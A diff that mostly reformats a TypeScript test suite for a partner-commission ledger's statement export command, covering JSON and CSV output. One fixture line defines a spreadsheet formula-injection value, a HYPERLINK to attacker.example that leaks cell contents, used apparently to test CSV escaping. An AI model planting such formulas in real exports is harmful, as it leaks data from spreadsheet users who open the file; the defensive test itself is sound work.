@@ -18,7 +18,12 @@ const formulaReason = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
  */
 describe('the export command line', () => {
   let dataDir: string;
-  const cli = (...args: string[]) => spawnSync(process.execPath, [cliPath, ...args], { env: { ...process.env, LEDGER_DATA_DIR: dataDir, LEDGER_JWT_SECRET: secret }, encoding: 'utf8', timeout: 60_000 });
+  const cli = (...args: string[]) =>
+    spawnSync(process.execPath, [cliPath, ...args], {
+      env: { ...process.env, LEDGER_DATA_DIR: dataDir, LEDGER_JWT_SECRET: secret },
+      encoding: 'utf8',
+      timeout: 60_000,
+    });
 
   beforeAll(async () => {
     dataDir = mkdtempSync(join(tmpdir(), 'ledger-export-'));
@@ -26,30 +31,73 @@ describe('the export command line', () => {
     const at = (date: string) => ledger.clock.set(`${date}T12:00:00.000Z`);
     const as = (role: 'ops' | 'finance' | 'partner_manager') => ledger.auth(role, `${role}-user`);
     at('2026-01-02');
-    await ledger.http.post('/rule-sets').set(as('ops')).send({ ...ruleSet(), rationale: 'Rules 2026.1' }).expect(201);
-    for (const [partnerId, dealId, amount] of [['north', 'n1', '10000.00'], ['south', 's1', '3000.00'], ['west', 'w1', '5000.00']] as const) {
-      await ledger.http.post('/partners').set(as('partner_manager')).send({ partnerId, name: `Partner ${partnerId}`, kind: 'reseller', region: 'EMEA' }).expect(201);
+    await ledger.http
+      .post('/rule-sets')
+      .set(as('ops'))
+      .send({ ...ruleSet(), rationale: 'Rules 2026.1' })
+      .expect(201);
+    for (const [partnerId, dealId, amount] of [
+      ['north', 'n1', '10000.00'],
+      ['south', 's1', '3000.00'],
+      ['west', 'w1', '5000.00'],
+    ] as const) {
+      await ledger.http
+        .post('/partners')
+        .set(as('partner_manager'))
+        .send({ partnerId, name: `Partner ${partnerId}`, kind: 'reseller', region: 'EMEA' })
+        .expect(201);
       at('2026-01-15');
-      await ledger.http.post('/deals').set(as('partner_manager')).send({ dealId, customer: { name: dealId, domain: `${dealId}.example` }, partners: [{ partnerId, role: 'sourcing', share: '1' }], currency: 'USD', openedAt: '2026-01-15' }).expect(201);
-      await ledger.http.post(`/deals/${dealId}/win`).set(as('partner_manager')).send({ lines: [{ sku: 'PLATFORM', family: 'software', amount }], billing: 'one_time', wonAt: '2026-01-15' }).expect(200);
+      await ledger.http
+        .post('/deals')
+        .set(as('partner_manager'))
+        .send({
+          dealId,
+          customer: { name: dealId, domain: `${dealId}.example` },
+          partners: [{ partnerId, role: 'sourcing', share: '1' }],
+          currency: 'USD',
+          openedAt: '2026-01-15',
+        })
+        .expect(201);
+      await ledger.http
+        .post(`/deals/${dealId}/win`)
+        .set(as('partner_manager'))
+        .send({ lines: [{ sku: 'PLATFORM', family: 'software', amount }], billing: 'one_time', wonAt: '2026-01-15' })
+        .expect(200);
     }
     at('2026-04-02');
     await ledger.http.post('/periods/2026-Q1/close').set(as('finance')).expect(200);
     // Two of the three partners get their statement; the export lists exactly those.
     let position = '0';
-    for (const partnerId of ['south', 'north']) position = (await ledger.http.post('/statements').set(as('finance')).send({ partnerId, period: '2026-Q1' }).expect(201)).body.position as string;
+    for (const partnerId of ['south', 'north'])
+      position = (
+        await ledger.http.post('/statements').set(as('finance')).send({ partnerId, period: '2026-Q1' }).expect(201)
+      ).body.position as string;
     // North disputes its line with a formula for a reason; the adjustment carrying it goes on north's Q2 statement.
     const north = await ledger.http.get(`/statements/north-2026-Q1?after=${position}`).set(as('finance')).expect(200);
     const lineId = (north.body as { lines: Array<{ lineId: string }> }).lines[0]!.lineId;
-    await ledger.http.post(`/statements/north-2026-Q1/lines/${lineId}/dispute`).set(ledger.auth('partner', 'north-user', 'north')).send({ reason: formulaReason }).expect(200);
-    await ledger.http.post(`/statements/north-2026-Q1/lines/${lineId}/resolve`).set(as('finance')).send({ outcome: 'adjusted', adjustment: '-25.00' }).expect(200);
+    await ledger.http
+      .post(`/statements/north-2026-Q1/lines/${lineId}/dispute`)
+      .set(ledger.auth('partner', 'north-user', 'north'))
+      .send({ reason: formulaReason })
+      .expect(200);
+    await ledger.http
+      .post(`/statements/north-2026-Q1/lines/${lineId}/resolve`)
+      .set(as('finance'))
+      .send({ outcome: 'adjusted', adjustment: '-25.00' })
+      .expect(200);
     at('2026-07-02');
     await ledger.http.post('/periods/2026-Q2/close').set(as('finance')).expect(200);
-    await ledger.http.post('/statements').set(as('finance')).send({ partnerId: 'north', period: '2026-Q2' }).expect(201);
+    await ledger.http
+      .post('/statements')
+      .set(as('finance'))
+      .send({ partnerId: 'north', period: '2026-Q2' })
+      .expect(201);
     await ledger.app.close();
     // As if the service had stopped before projecting the statements: the command catches up on its own.
     const db = openDatabase(join(dataDir, 'read-models.sqlite'));
-    db.exec("DELETE FROM statement_disputes; DELETE FROM statement_lines; DELETE FROM statements; UPDATE projection_checkpoints SET position = '0' WHERE name = 'statements'");
+    db.exec(
+      "DELETE FROM statement_disputes; DELETE FROM statement_lines; DELETE FROM statements; UPDATE projection_checkpoints SET position = '0' WHERE name = 'statements'",
+    );
     db.close();
   });
   afterAll(() => rmSync(dataDir, { recursive: true, force: true }));
@@ -58,12 +106,20 @@ describe('the export command line', () => {
     const result = cli('export', 'statements', '--period', '2026-Q1');
     expect(result.stderr).toBe('');
     expect(result.status).toBe(0);
-    const statements = JSON.parse(result.stdout) as Array<{ statementId: string; total: string; status: string; lines: Array<{ amount: string; kind: string }> }>;
+    const statements = JSON.parse(result.stdout) as Array<{
+      statementId: string;
+      total: string;
+      status: string;
+      lines: Array<{ amount: string; kind: string }>;
+    }>;
     expect(statements.map((statement) => [statement.statementId, statement.status, statement.total])).toEqual([
       ['north-2026-Q1', 'issued', '500.00'],
       ['south-2026-Q1', 'issued', '150.00'],
     ]);
-    for (const statement of statements) expect(statement.lines.reduce((sum, line) => sum.plus(line.amount), new Decimal(0)).toFixed(2)).toBe(statement.total);
+    for (const statement of statements)
+      expect(statement.lines.reduce((sum, line) => sum.plus(line.amount), new Decimal(0)).toFixed(2)).toBe(
+        statement.total,
+      );
     expect(JSON.parse(cli('export', 'statements', '--period', '2026-Q3').stdout)).toEqual([]);
   });
 
@@ -71,7 +127,16 @@ describe('the export command line', () => {
     const result = cli('export', 'statements', '--period', '2026-Q1', '--csv');
     expect(result.status).toBe(0);
     const rows = parseCsv(result.stdout);
-    expect(rows.map((row) => [row['statement_id'], row['kind'], row['deal_id'], row['amount'], row['rule_set_version'], row['tier']])).toEqual([
+    expect(
+      rows.map((row) => [
+        row['statement_id'],
+        row['kind'],
+        row['deal_id'],
+        row['amount'],
+        row['rule_set_version'],
+        row['tier'],
+      ]),
+    ).toEqual([
       ['north-2026-Q1', 'commission', 'n1', '500.00', '2026.1', 'registered'],
       ['south-2026-Q1', 'commission', 's1', '150.00', '2026.1', 'registered'],
     ]);
